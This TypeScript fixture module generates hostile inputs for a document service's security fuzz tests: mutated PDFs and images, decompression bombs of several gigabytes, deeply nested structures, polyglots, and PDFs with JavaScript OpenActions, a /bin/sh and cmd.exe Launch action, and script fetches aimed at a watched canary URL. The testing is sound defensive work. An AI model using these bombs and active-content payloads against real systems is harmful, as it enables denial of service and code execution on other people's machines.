/**
 * Hostile documents for the fuzz suite (test/security.fuzz.test.ts): a seeded mutation fuzzer over real
 * documents (truncations, bit flips, wrong xref/stream lengths, broken PNG/JPEG chunks) and crafted cases
 * built in code (huge declared sizes, decompression bombs, 10,000 pages, deep nesting, active content,
 * polyglots, degenerate page boxes). Everything is generated at test time; nothing binary lives in git.
 */
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { encodeZip } from './encoders.ts';

export interface HostileCase {
  /** Unique, stable across runs with the same seed (used in failure messages and the summary). */
  name: string;
  filename: string;
  bytes: Buffer;
  /** Also sent through sync parse and OCR (crafted cases; the fuzz test picks mutants that upload by itself). */
  deep?: boolean;
  /** The upload's status a correct service answers (crafted cases): 200, 413 (over a limit) or 415 (not a document). */
  uploadStatus?: 200 | 413 | 415;
}

// ---------------------------------------------------------------------------------------------------------
// Deterministic randomness

/** mulberry32: tiny, fast and the same sequence for the same seed on every platform. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const randInt = (rand: () => number, below: number) => Math.floor(rand() * below);

// ---------------------------------------------------------------------------------------------------------
// Encoding helpers

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Buffer): number {
  let c = 0xffffffff;
  for (const byte of data) c = CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngIhdr(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = bitDepth;
  ihdr[9] = colourType;
  return ihdr;
}

/**
 * A zlib stream of `bytes` zero bytes, about 1000 times smaller than its output, built without ever holding
 * the output: one fully flushed deflate chunk of 1 MiB of zeros repeats (each chunk is self-contained), then
 * an empty final block and the Adler-32 of the whole (for n zeros: a = 1, b = n mod 65521).
 */
export function zlibZeros(bytes: number): Buffer {
  const MIB = 1024 * 1024;
  const whole = Math.floor(bytes / MIB);
  const chunk = deflateRawSync(Buffer.alloc(MIB), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const rest = bytes % MIB ? deflateRawSync(Buffer.alloc(bytes % MIB), { level: 9, finishFlush: constants.Z_FULL_FLUSH }) : Buffer.alloc(0);
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((bytes % 65521) << 16) | 1) >>> 0, 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array<Buffer>(whole).fill(chunk), rest, Buffer.from([0x03, 0x00]), adler]);
}

/** A minimal PDF from object bodies (object i+1 = bodies[i]); a correct xref table unless told otherwise. */
export function buildPdf(bodies: (string | Buffer)[], trailer = '/Root 1 0 R'): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0].length;
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    offsets.push(offset);
    const obj = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(obj);
    offset += obj.length;
  });
  const xref = [
    `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`,
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`),
  ].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${bodies.length + 1} ${trailer} >>\nstartxref\n${offset}\n%%EOF\n`));
  return Buffer.concat(parts);
}

function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]);
}

const HELLO = 'BT /F1 24 Tf 72 700 Td (Hostile but harmless) Tj ET';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Catalog, one-page tree, one page with `pageExtra`, its content and a font; more objects appended after. */
function onePagePdf(
  options: {
    pageExtra?: string;
    catalogExtra?: string;
    content?: string | Buffer;
    mediaBox?: string;
    resources?: string;
    more?: (string | Buffer)[];
  } = {},
): Buffer {
  const content = options.content ?? HELLO;
  const contentObj = typeof content === 'string' ? stream('', Buffer.from(content)) : content;
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${options.mediaBox ?? '[0 0 612 792]'} /Contents 4 0 R /Resources ${options.resources ?? '<< /Font << /F1 5 0 R >> >>'} ${options.pageExtra ?? ''} >>`,
    contentObj,
    FONT,
    ...(options.more ?? []),
  ]);
}

// ---------------------------------------------------------------------------------------------------------
// Mutations of real documents

export type Mutation = (bytes: Buffer, rand: () => number) => { label: string; bytes: Buffer };

const truncate =
  (fraction: number): Mutation =>
  (bytes) => ({ label: `truncate@${fraction}`, bytes: bytes.subarray(0, Math.floor(bytes.length * fraction)) });

const truncateRandom: Mutation = (bytes, rand) => {
  const at = 1 + randInt(rand, bytes.length - 1);
  return { label: `truncate@${at}`, bytes: bytes.subarray(0, at) };
};

/** Flips `count` random bits, anywhere or (from) within the first `window` bytes where headers live. */
const bitFlips =
  (count: number, window?: number): Mutation =>
  (bytes, rand) => {
    const out = Buffer.from(bytes);
    const span = Math.min(window ?? out.length, out.length);
    for (let i = 0; i < count; i++) out[randInt(rand, span)] ^= 1 << randInt(rand, 8);
    return { label: `flip${count}${window ? `@head${window}` : ''}`, bytes: out };
  };

const overwriteRun: Mutation = (bytes, rand) => {
  const out = Buffer.from(bytes);
  const length = 1 + randInt(rand, 64);
  const at = randInt(rand, Math.max(1, out.length - length));
  const fill = rand() < 0.5 ? 0x00 : 0xff;
  out.fill(fill, at, at + length);
  return { label: `fill${fill.toString(16)}x${length}@${at}`, bytes: out };
};

const duplicateRun: Mutation = (bytes, rand) => {
  const at = randInt(rand, bytes.length);
  const length = 1 + randInt(rand, 512);
  return { label: `dup${length}@${at}`, bytes: Buffer.concat([bytes.subarray(0, at + length), bytes.subarray(at)]) };
};

const GENERIC: Mutation[] = [
  truncate(0.01),
  truncate(0.25),
  truncate(0.5),
  truncate(0.9),
  truncate(0.999),
  truncateRandom,
  bitFlips(1),
  bitFlips(8),
  bitFlips(64),
  bitFlips(4, 64),
  overwriteRun,
  duplicateRun,
];

/** Rewrites every `/Length n` (stream lengths) to a wrong value. */
const wrongStreamLengths: Mutation = (bytes, rand) => {
  const choice = randInt(rand, 4);
  const text = bytes.toString('latin1').replace(/\/Length (\d+)/g, (_, n: string) => {
    const value = [0, Number(n) + 1 + randInt(rand, 100), Math.max(0, Number(n) - 1 - randInt(rand, 100)), 999999999][choice];
    return `/Length ${value}`;
  });
  return { label: `lengths#${choice}`, bytes: Buffer.from(text, 'latin1') };
};

/** Points startxref somewhere wrong, or shifts every xref offset. */
const wrongXref: Mutation = (bytes, rand) => {
  const text = bytes.toString('latin1');
  if (rand() < 0.5) {
    const bogus = [0, 1, randInt(rand, bytes.length), bytes.length * 10][randInt(rand, 4)];
    return { label: `startxref=${bogus}`, bytes: Buffer.from(text.replace(/startxref\s+\d+/g, `startxref\n${bogus}`), 'latin1') };
  }
  const shift = 1 + randInt(rand, 50);
  const shifted = text.replace(
    /^(\d{10}) (\d{5}) n/gm,
    (_, o: string, g: string) => `${String(Number(o) + shift).padStart(10, '0')} ${g} n`,
  );
  return { label: `xrefshift${shift}`, bytes: Buffer.from(shifted, 'latin1') };
};

/** Damages a stream's compressed bytes (between `stream` and `endstream`). */
const corruptStreamData: Mutation = (bytes, rand) => {
  const text = bytes.toString('latin1');
  const starts = [...text.matchAll(/stream\r?\n/g)]
    .map((m) => (m.index ?? 0) + m[0].length)
    .filter((i) => text.slice(i - 10, i).indexOf('end') < 0);
  if (starts.length === 0) return bitFlips(8)(bytes, rand);
  const at = starts[randInt(rand, starts.length)];
  const out = Buffer.from(bytes);
  for (let i = 0; i < 16; i++) out[Math.min(out.length - 1, at + randInt(rand, 64))] = randInt(rand, 256);
  return { label: `streamdata@${at}`, bytes: out };
};

const PDF_MUTATIONS: Mutation[] = [...GENERIC, wrongStreamLengths, wrongXref, corruptStreamData];

interface PngChunkInfo {
  type: string;
  at: number;
  length: number;
}

function pngChunksOf(png: Buffer): PngChunkInfo[] {
  const chunks: PngChunkInfo[] = [];
  for (let at = 8; at + 12 <= png.length; ) {
    const length = png.readUInt32BE(at);
    chunks.push({ type: png.toString('latin1', at + 4, at + 8), at, length });
    at += 12 + length;
  }
  return chunks;
}

/** PNG chunk damage: a bad CRC, an absurd length, IHDR sizes, a dropped IEND or IDAT bytes. */
const corruptPngChunk: Mutation = (bytes, rand) => {
  const chunks = pngChunksOf(bytes);
  const out = Buffer.from(bytes);
  const chunk = chunks[randInt(rand, chunks.length)];
  const kind = randInt(rand, 5);
  if (kind === 0) out.writeUInt32BE((out.readUInt32BE(chunk.at + 8 + chunk.length) ^ 0xdeadbeef) >>> 0, chunk.at + 8 + chunk.length);
  if (kind === 1) out.writeUInt32BE([0, 0x7fffffff, 0xffffffff, chunk.length + 7][randInt(rand, 4)], chunk.at);
  if (kind === 2) {
    // IHDR with a new size and a correct CRC: the header is consistent, the data is not.
    const ihdr = out.subarray(16, 29);
    ihdr.writeUInt32BE(1 + randInt(rand, 5000), 0);
    ihdr.writeUInt32BE(1 + randInt(rand, 5000), 4);
    out.writeUInt32BE(crc32(out.subarray(12, 29)), 29);
  }
  if (kind === 3) return { label: 'png-no-iend', bytes: out.subarray(0, chunks.at(-1)?.at ?? out.length) };
  if (kind === 4) {
    const idat = chunks.find((c) => c.type === 'IDAT') ?? chunk;
    for (let i = 0; i < 8; i++) out[idat.at + 8 + randInt(rand, Math.max(1, idat.length))] = randInt(rand, 256);
  }
  return { label: `png-${chunk.type}#${kind}`, bytes: out };
};

/** JPEG marker damage: SOF dimensions, segment lengths, cut inside the entropy-coded scan, no EOI. */
const corruptJpegSegment: Mutation = (bytes, rand) => {
  const out = Buffer.from(bytes);
  const markers: { marker: number; at: number }[] = [];
  for (let at = 2; at + 4 <= out.length && out[at] === 0xff; ) {
    const marker = out[at + 1];
    markers.push({ marker, at });
    if (marker === 0xda) break; // start of scan: entropy-coded data follows
    at += 2 + out.readUInt16BE(at + 2);
  }
  const kind = randInt(rand, 4);
  const sof = markers.find((m) => m.marker >= 0xc0 && m.marker <= 0xc2);
  if (kind === 0 && sof) {
    out.writeUInt16BE([0, 1, 0xffff][randInt(rand, 3)], sof.at + 5);
    out.writeUInt16BE([0, 1, 0xffff][randInt(rand, 3)], sof.at + 7);
    return { label: 'jpeg-sof-size', bytes: out };
  }
  if (kind === 1 && markers.length > 0) {
    const m = markers[randInt(rand, markers.length)];
    out.writeUInt16BE([0, 1, 2, 0xffff][randInt(rand, 4)], m.at + 2);
    return { label: `jpeg-len-${m.marker.toString(16)}`, bytes: out };
  }
  const sos = markers.find((m) => m.marker === 0xda);
  if (kind === 2 && sos)
    return { label: 'jpeg-cut-in-scan', bytes: out.subarray(0, sos.at + 20 + randInt(rand, Math.max(1, out.length - sos.at - 22))) };
  return { label: 'jpeg-no-eoi', bytes: out.subarray(0, out.length - 2) };
};

export interface SeedDocument {
  name: string;
  filename: string;
  bytes: Buffer;
  kind: 'pdf' | 'png' | 'jpeg' | 'other';
}

/**
 * `perSeed` mutants of each seed document, deterministic for `seed`. Every mutation kind is used in turn so
 * each seed gets every kind before any repeats.
 */
export function mutatedCases(seeds: SeedDocument[], perSeed: number, seed: number): HostileCase[] {
  const rand = seededRandom(seed);
  const cases: HostileCase[] = [];
  for (const doc of seeds) {
    const kinds =
      doc.kind === 'pdf'
        ? PDF_MUTATIONS
        : doc.kind === 'png'
          ? [...GENERIC, corruptPngChunk, corruptPngChunk]
          : doc.kind === 'jpeg'
            ? [...GENERIC, corruptJpegSegment, corruptJpegSegment]
            : GENERIC;
    for (let i = 0; i < perSeed; i++) {
      const { label, bytes } = kinds[i % kinds.length](doc.bytes, rand);
      cases.push({ name: `${doc.name}/${i}:${label}`, filename: doc.filename, bytes });
    }
  }
  return cases;
}

// ---------------------------------------------------------------------------------------------------------
// Crafted hostile documents

/** A PNG whose header claims `width`x`height`; the data is a few bytes (never decodable, never allocated). */
function pngClaiming(width: number, height: number): Buffer {
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', pngIhdr(width, height, 8, 6)),
    pngChunk('IDAT', deflateSync(Buffer.alloc(64))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A 1000x1000 PNG whose IDAT inflates to `inflated` bytes (far more than the 1 MB the image needs). */
function pngOverlongIdat(inflated: number): Buffer {
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', pngIhdr(1000, 1000, 8, 0)),
    pngChunk('IDAT', zlibZeros(inflated)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real JPEG whose frame header (SOF0-2) now claims `width`x`height`: the header reads, the data cannot fill it. */
export function jpegWithSize(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let at = 2; at + 9 < out.length && out[at] === 0xff; ) {
    const marker = out[at + 1];
    if (marker >= 0xc0 && marker <= 0xc2) {
      out.writeUInt16BE(height, at + 5);
      out.writeUInt16BE(width, at + 7);
      return out;
    }
    at += 2 + out.readUInt16BE(at + 2);
  }
  throw new Error('no frame header found in the JPEG');
}

/** A JPEG (baseline header only) claiming 65500x65500 pixels. */
function jpegClaiming(width: number, height: number): Buffer {
  const sof = Buffer.from([
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    height >> 8,
    height & 0xff,
    width >> 8,
    width & 0xff,
    0x03,
    0x01,
    0x22,
    0x00,
    0x02,
    0x11,
    0x01,
    0x03,
    0x11,
    0x01,
  ]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), sof, Buffer.from([0xff, 0xd9])]);
}

function gifClaiming(width: number, height: number): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x00\x00\x00', 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  // An image descriptor of the same size and one LZW-coded clear+end code.
  const descriptor = Buffer.from([
    0x2c,
    0,
    0,
    0,
    0,
    width & 0xff,
    width >> 8,
    height & 0xff,
    height >> 8,
    0,
    0x02,
    0x02,
    0x4c,
    0x01,
    0x00,
    0x3b,
  ]);
  return Buffer.concat([head, descriptor]);
}

/** `count` pages sharing one content stream: about 60 bytes a page. */
function manyPagesPdf(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, i) => `${i + 4} 0 R`).join(' ');
  const pages = Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R >>');
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    stream('', Buffer.from('0 0 m 100 100 l S')),
    ...pages,
  ]);
}

/** A page tree `depth` levels deep (each Pages node holds the next). */
function deepPageTreePdf(depth: number): Buffer {
  const nodes = Array.from(
    { length: depth },
    (_, i) => `<< /Type /Pages /Kids [${i + 3} 0 R] /Count 1 ${i > 0 ? `/Parent ${i + 1} 0 R` : ''} >>`,
  );
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...nodes,
    `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 300 300] /Contents ${depth + 3} 0 R >>`,
    stream('', Buffer.from('0 0 m 100 100 l S')),
  ]);
}

/** A page filled with a tiling pattern whose tile is `step` points square: (612*792)/step² tiles to draw. */
export function tilingPatternPdf(step: number): Buffer {
  return onePagePdf({
    content: '/Pattern cs /P1 scn 0 0 612 792 re f',
    resources: '<< /Font << /F1 5 0 R >> /Pattern << /P1 6 0 R >> >>',
    more: [
      stream(
        `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 ${step} ${step}] /XStep ${step} /YStep ${step} /Resources << >>`,
        Buffer.from(`0 0 ${step / 2} ${step / 2} re f`),
      ),
    ],
  });
}

/** Forms drawing forms: form i draws form i+1 `fanout` times, `depth` levels (fanout^depth strokes, a few KB on disk). */
export function formFanoutPdf(fanout: number, depth: number): Buffer {
  const forms = Array.from({ length: depth }, (_, i) => {
    const last = i === depth - 1;
    const body = last
      ? '0 0 m 1 1 l S'
      : Array<string>(fanout)
          .fill(`/F${i + 1} Do`)
          .join(' ');
    const resources = last ? '' : `/Resources << /XObject << /F${i + 1} ${7 + i} 0 R >> >>`;
    return stream(`/Type /XObject /Subtype /Form /BBox [0 0 100 100] ${resources}`, Buffer.from(body));
  });
  return onePagePdf({ content: '/F0 Do', resources: '<< /Font << /F1 5 0 R >> /XObject << /F0 6 0 R >> >>', more: forms });
}

const nested = (open: string, close: string, depth: number, inner = '1') => open.repeat(depth) + inner + close.repeat(depth);

const HOSTILE_URL = (base: string) => `${base}/fetched-by-docintel`;

/**
 * The crafted cases. `canaryUrl` is an HTTP address the test watches: links, remote files and actions point
 * at it, and nothing may ever fetch it.
 */
export function craftedCases(canaryUrl: string): HostileCase[] {
  const url = HOSTILE_URL(canaryUrl);
  const cases: HostileCase[] = [];
  const add = (name: string, filename: string, bytes: Buffer, uploadStatus: 200 | 413 | 415, deep = false) =>
    cases.push({ name, filename, bytes, uploadStatus, deep });

  // Huge declared dimensions (refused from the header, nothing decoded).
  add('png-100000x100000', 'huge.png', pngClaiming(100_000, 100_000), 413);
  add('png-1x2147483647', 'tall.png', pngClaiming(1, 0x7fffffff), 415);
  add('png-0x0', 'zero.png', pngClaiming(0, 0), 415);
  add('jpeg-65500x65500', 'huge.jpg', jpegClaiming(65_500, 65_500), 415);
  add('gif-65535x65535', 'huge.gif', gifClaiming(65_535, 65_535), 413);
  add('pdf-mediabox-1e7', 'huge-page.pdf', onePagePdf({ mediaBox: '[0 0 10000000 10000000]' }), 413);
  add('pdf-mediabox-userunit', 'userunit.pdf', onePagePdf({ mediaBox: '[0 0 14400 14400]', pageExtra: '/UserUnit 75000' }), 413, true);

  // Decompression bombs.
  add('png-idat-2GB', 'bomb.png', pngOverlongIdat(2 * 1024 ** 3), 200, true);
  add(
    'pdf-content-flate-1GB',
    'bomb-content.pdf',
    onePagePdf({ content: stream('/Filter /FlateDecode', zlibZeros(1024 ** 3)) }),
    413,
    true,
  );
  const doubleFlate = deflateSync(zlibZeros(8 * 1024 ** 3), { level: 9 });
  add(
    'pdf-content-2xflate-8GB',
    'bomb-2x.pdf',
    onePagePdf({ content: stream('/Filter [/FlateDecode /FlateDecode]', doubleFlate) }),
    413,
    true,
  );
  const imageBomb = stream(
    '/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
    zlibZeros(20000 * 20000 * 3),
  );
  add(
    'pdf-image-20000x20000-flate',
    'bomb-image.pdf',
    onePagePdf({
      content: 'q 500 0 0 500 50 50 cm /Im1 Do Q',
      resources: '<< /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >>',
      more: [imageBomb],
    }),
    413,
    true,
  );

  add('pdf-tiling-pattern-5e9-tiles', 'tiles.pdf', tilingPatternPdf(0.01), 413, true);
  add('pdf-form-fanout-50^6', 'fanout.pdf', formFanoutPdf(50, 6), 413, true);

  // Many pages, deep structures.
  add('pdf-10000-pages', 'many-pages.pdf', manyPagesPdf(10_000), 413);
  add('pdf-page-tree-depth-3000', 'deep-tree.pdf', deepPageTreePdf(3000), 200);
  add(
    'pdf-page-tree-cycle',
    'cycle.pdf',
    buildPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ]),
    415,
  );
  add('pdf-nested-arrays-20000', 'deep-array.pdf', onePagePdf({ pageExtra: `/Junk ${nested('[', ']', 20_000)}` }), 200, true);
  add('pdf-nested-dicts-20000', 'deep-dict.pdf', onePagePdf({ pageExtra: `/Junk ${nested('<< /A ', ' >>', 20_000)}` }), 200, true);
  add(
    'pdf-nested-content-q-20000',
    'deep-q.pdf',
    onePagePdf({ content: `${'q '.repeat(20_000)}${HELLO}${' Q'.repeat(20_000)}` }),
    200,
    true,
  );
  add(
    'pdf-nested-forms-recursive',
    'form-loop.pdf',
    onePagePdf({
      content: '/Fm1 Do',
      resources: '<< /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >>',
      more: [
        stream('/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Fm1 6 0 R >> >>', Buffer.from('/Fm1 Do')),
      ],
    }),
    200,
    true,
  );
  add('pdf-reference-loop', 'ref-loop.pdf', onePagePdf({ resources: '6 0 R', more: ['7 0 R', '6 0 R'] }), 200);

  // Active content and external references: parsed as documents, never run or fetched.
  add(
    'pdf-openaction-js',
    'script.pdf',
    onePagePdf({
      catalogExtra: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/js"\\); this.submitForm\\("${url}/submit"\\);) >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>`,
      pageExtra: `/AA << /O << /S /JavaScript /JS (app.launchURL\\("${url}/aa"\\)) >> >>`,
    }),
    200,
    true,
  );
  add(
    'pdf-links-launch-uri',
    'links.pdf',
    onePagePdf({
      catalogExtra: `/OpenAction << /S /URI /URI (${url}/open) >>`,
      pageExtra: '/Annots [6 0 R 7 0 R 8 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /URI /URI (${url}/link) >> >>`,
        '<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
        `<< /Type /Annot /Subtype /Link /Rect [72 500 300 530] /A << /S /GoToR /F << /FS /URL /F (${url}/remote.pdf) >> /D [0 /Fit] >> >>`,
      ],
    }),
    200,
    true,
  );
  add(
    'pdf-embedded-file',
    'attachment.pdf',
    onePagePdf({
      catalogExtra: '/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>',
      pageExtra: '/Annots [8 0 R]',
      more: [
        '<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 7 0 R >> >>',
        stream('/Type /EmbeddedFile /Subtype /application#2Foctet-stream', Buffer.from('MZ\x90\x00 not really an executable', 'latin1')),
        '<< /Type /Annot /Subtype /FileAttachment /Rect [72 400 100 430] /FS 6 0 R >>',
      ],
    }),
    200,
    true,
  );
  add(
    'pdf-external-stream',
    'remote-stream.pdf',
    onePagePdf({
      content: 'q 100 0 0 100 50 50 cm /Im1 Do Q',
      resources: '<< /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >>',
      more: [
        `<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${url}/image) >> /Length 0 >>\nstream\n\nendstream`,
      ],
    }),
    200,
    true,
  );
  add(
    'html-named-pdf',
    'invoice.pdf',
    Buffer.from(`<!DOCTYPE html><html><body><img src="${url}/img"><script>fetch("${url}/js")</script></body></html>`),
    415,
  );
  add(
    'svg-external-href',
    'logo.png',
    Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${url}/svg" width="10" height="10"/></svg>`,
    ),
    415,
  );

  // Polyglots.
  const pdf = onePagePdf();
  const zip = encodeZip([{ name: 'payload.txt', data: Buffer.from('zip member') }]);
  const png = Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', pngIhdr(16, 16, 8, 2)),
    pngChunk('IDAT', deflateSync(Buffer.alloc(17 * 16 * 3 + 16))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
  add('polyglot-pdf+zip', 'poly.pdf', Buffer.concat([pdf, zip]), 200, true);
  add('polyglot-zip+pdf', 'poly.pdf', Buffer.concat([zip, pdf]), 200);
  add('polyglot-png+pdf', 'poly.png', Buffer.concat([png, pdf]), 200, true);
  add('polyglot-pdf-after-1k-junk', 'junk-first.pdf', Buffer.concat([Buffer.alloc(1000, 0x41), pdf]), 200);
  add('polyglot-pdf-after-2k-junk', 'junk-first.pdf', Buffer.concat([Buffer.alloc(2048, 0x41), pdf]), 415);
  add('polyglot-gif+js', 'poly.gif', Buffer.concat([gifClaiming(1, 1), Buffer.from('/*\n*/ alert(1)')]), 200);

  // Degenerate page boxes.
  for (const [label, box] of [
    ['zero', '[0 0 0 0]'],
    ['negative', '[0 0 -612 -792]'],
    ['inverted', '[612 792 0 0]'],
    ['flat', '[0 0 612 0]'],
    ['nan', '[0 0 abc 792]'],
    ['short', '[0 0 612]'],
    ['not-array', '(letter)'],
    ['tiny', '[0 0 0.001 0.001]'],
  ] as const) {
    add(`pdf-mediabox-${label}`, `box-${label}.pdf`, onePagePdf({ mediaBox: box }), 200, label === 'zero' || label === 'negative');
  }
  add('pdf-rotate-45', 'rotate.pdf', onePagePdf({ pageExtra: '/Rotate 45' }), 200);
  add('pdf-cropbox-outside', 'crop.pdf', onePagePdf({ pageExtra: '/CropBox [5000 5000 6000 6000]' }), 200);
  add('pdf-no-pages', 'empty-tree.pdf', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), 415);
  add(
    'pdf-count-lies',
    'count.pdf',
    buildPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ]),
    415,
  );

  // Empty and not-a-document files.
  add('empty.pdf', 'empty.pdf', Buffer.alloc(0), 415);
  add('empty.png', 'empty.png', Buffer.alloc(0), 415);
  add('whitespace.pdf', 'blank.pdf', Buffer.from(' \n\t\r\n'), 415);
  add('text-named-pdf', 'notes.pdf', Buffer.from('Meeting notes\nNothing to see here.\n'), 415);
  add('pdf-header-only', 'header.pdf', Buffer.from('%PDF-1.7\n'), 415);
  add('pdf-header-and-eof', 'eof.pdf', Buffer.from('%PDF-1.7\n%%EOF\n'), 415);
  add('json-deep', 'schema.json', Buffer.from(nested('[', ']', 100_000)), 415);
  add('json-not-utf8', 'schema.json', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]), 415);
  return cases;
}

export const CANARY_PATH = '/fetched-by-docintel';
